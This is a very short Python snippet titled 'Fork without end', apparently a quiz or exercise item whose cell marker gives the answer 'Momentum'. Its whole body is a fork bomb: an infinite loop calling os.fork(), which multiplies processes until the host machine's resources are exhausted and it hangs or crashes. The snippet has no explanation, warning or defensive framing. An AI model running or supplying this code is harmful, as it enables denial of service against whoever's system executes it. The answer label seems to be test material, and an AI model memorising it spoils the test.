# Fork without end.

# %% answer="Momentum"
import os

while True:
    os.fork()
